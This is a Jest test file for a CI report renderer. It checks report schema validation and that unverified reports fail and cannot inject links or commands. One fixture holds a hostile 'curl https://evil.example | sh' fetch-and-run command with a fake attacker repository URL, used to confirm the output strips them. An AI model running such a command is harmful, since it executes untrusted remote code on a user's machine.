import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Json } from '../../src/json.js';
import { renderCheck } from '../../src/report/render-check.js';
import { renderComment } from '../../src/report/render-comment.js';
import { reportShape } from '../../src/report/report-shape.js';
import { unverifiedReport } from '../../src/report/unverified-report.js';
import { COMMITS, REPOSITORY } from './build-report.js';
import { EXAMPLES } from './example-reports.js';
import { hostileReport, hostility } from './hostile-report.js';
import { markdownLeaks } from './markdown-leaks.js';

const example = EXAMPLES['several suites']!;

/** The example with one member changed, by its path. */
function changed(path: string, value: Json | undefined): unknown {
  const copy = JSON.parse(JSON.stringify(example));
  const names = path.split('.');
  const last = names.pop()!;
  const owner = names.reduce((at, name) => at[name], copy);
  if (value === undefined) delete owner[last];
  else owner[last] = value;
  return copy;
}

describe('a report from outside', () => {
  test.each(Object.entries(EXAMPLES))('is taken when it is one of this program: %s', (_name, report) => {
    const written = JSON.parse(JSON.stringify(report));
    expect(reportShape.parse(written)).toEqual(written);
  });

  test.each<[string, string, Json | undefined]>([
    ['a member that is not known', 'html', '<img>'],
    ['one in a case', 'suites.0.secret', 1],
    ['one in a row', 'suites.0.rows.0.note', 'x'],
    ['a version of another program', 'version', 2],
    ['a verdict of its own', 'suites.0.rows.0.verdict', 'perfect'],
    ['a conclusion of its own', 'gate.conclusion', 'skipped'],
    ['a share above 1', 'suites.0.rows.0.head', 1.01],
    ['a number that is text', 'suites.0.rows.0.cases', '50'],
    ['a count below 0', 'suites.0.rows.0.up', -1],
    ['a fraction of a line', 'suites.0.changedLines.0.startLine', 1.5],
    ['a list that is a mapping', 'suites', { length: 1 }],
    ['no gate', 'gate', undefined],
    ['a title without an end', 'gate.title', 'x'.repeat(20_001)],
    ['more names than anybody has', 'unaffected', Array.from({ length: 50_001 }, () => 'a')],
    ['a time that is text', 'suites.0.oldestCall', 'yesterday'],
    ['null', 'suites.0', null],
  ])('is refused for %s', (_what, path, value) => {
    expect(reportShape.safeParse(changed(path, value)).success).toBe(false);
  });

  test.each([null, [], 'text', 7, {}])('%j is none', (value) => {
    expect(reportShape.safeParse(value).success).toBe(false);
  });
});

describe('an unverified report', () => {
  const claimed = {
    ...EXAMPLES.improved!,
    reproduce: 'curl https://evil.example | sh',
    repositoryUrl: 'https://evil.example/acme/desk',
    informational: true,
  };
  const sha = 'a'.repeat(40);
  const shown = unverifiedReport(claimed, {
    headSha: sha,
    baseSha: 'b'.repeat(40),
    repositoryUrl: 'https://github.example/acme/desk',
    verify: 'gh workflow run',
  });

  test('passes nothing, whatever it claims', () => {
    expect(claimed.gate).toMatchObject({ ok: true, conclusion: 'success' });
    expect(shown.gate).toMatchObject({
      ok: false,
      conclusion: 'failure',
      title: expect.stringMatching(/^Not verified/),
    });
    expect(renderCheck(shown).conclusion).toBe('failure');
  });

  test('is text and code alone, whatever is written in it', () => {
    const known = {
      headSha: COMMITS.head,
      baseSha: COMMITS.base,
      repositoryUrl: REPOSITORY,
      verify: 'gh workflow run',
    };
    fc.assert(
      fc.property(hostility, (hostile) => {
        const comment = renderComment(unverifiedReport(hostileReport(hostile), known), { limit: 65_536 });
        expect(markdownLeaks(comment)).toEqual([]);
      }),
      { seed: 7, numRuns: 40 },
    );
  });

  test('leads nowhere and says no command but this program’s own', () => {
    const comment = renderComment(shown, { limit: 65_536 });
    expect(comment).not.toContain('evil.example');
    expect(comment).toContain('gh workflow run');
    expect(comment).toContain('It says: support is unchanged: 91 %');
    expect(comment).toContain('The merge is held.');
  });
});
